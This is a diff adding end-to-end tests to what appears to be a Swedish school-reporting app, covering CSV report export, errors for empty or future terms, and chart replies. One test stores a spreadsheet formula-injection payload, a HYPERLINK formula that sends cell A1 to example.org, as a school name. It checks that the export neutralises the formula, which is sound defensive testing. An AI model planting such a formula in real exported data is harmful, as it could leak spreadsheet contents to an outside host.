@@ -464,3 +464,53 @@ def test_the_admins_home_shows_the_current_terms_key_figures_and_others_do_not(
     served.app_home_opened(user=SARA)
     sara = workspace.wait_for(lambda ws: ws.home_of(SARA))
     assert not any("Uppföljning" in b.get("text", {}).get("text", "") for b in sara["blocks"])
+
+
+FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Öppna")'
+
+
+def test_a_formula_like_school_name_stays_text_in_the_report_csv(
+    bryggan: Bryggan, seeded: tuple[int, int], database_url: str, tmp_path: Path
+) -> None:
+    from sqlalchemy import update
+
+    from tests.e2e.test_admin_cli import _bryggan
+
+    with bryggan.sessions.begin() as session:
+        session.execute(update(School).where(School.id == seeded[0]).values(name=FORMULA))
+    done = _bryggan(
+        tmp_path, database_url, "report", "--term", "HT2026", "--format", "csv", "--output", "ht.csv"
+    )
+    assert done.returncode == 0, done.stderr
+    text = (tmp_path / "ht.csv").read_bytes().decode("utf-8-sig")
+    # Quoted for the `;` inside it, and a leading apostrophe so Excel shows it as text.
+    assert '\r\n"\'=HYPERLINK(""http://example.org/?""&A1;""Öppna"")";' in text
+    assert "\r\n=HYPERLINK" not in text
+    assert '\r\n"=HYPERLINK' not in text
+
+
+def test_an_empty_database_has_nothing_to_report_and_a_term_ahead_has_not_begun(
+    bryggan: Bryggan, database_url: str, tmp_path: Path
+) -> None:
+    from tests.e2e.test_admin_cli import _bryggan
+
+    empty = _bryggan(tmp_path, database_url, "report", "--format", "csv")
+    assert empty.returncode == 2
+    assert "inget att rapportera" in empty.stderr
+    assert "flera arbetsytor" not in empty.stderr
+    _seed(bryggan)
+    ahead = _bryggan(tmp_path, database_url, "report", "--term", "HT2099", "--format", "md")
+    assert ahead.returncode == 2
+    assert "HT2099 har inte börjat än (den börjar 2099-08-01)" in ahead.stderr
+    assert ahead.stdout == ""
+
+
+def test_uppfoljning_for_a_term_not_begun_says_so_and_sends_no_charts(
+    served: Driver, workspace: Workspace
+) -> None:
+    reply = _reply(served, workspace, ADMIN, "VT2027")
+    assert "VT2027 har inte börjat än (den börjar 2027-01-01)" in reply.text
+    assert "2027-01-01–2026" not in reply.text  # no inverted period
+    _reply(served, workspace, ADMIN, "HT2026")  # after it, the charts of a term that has begun arrive
+    uploads = workspace.wait_for(lambda ws: [m for m in ws.dm_messages_to(ADMIN) if m.files] or None)
+    assert [m.text for m in uploads] == ["Diagram för HT2026."]
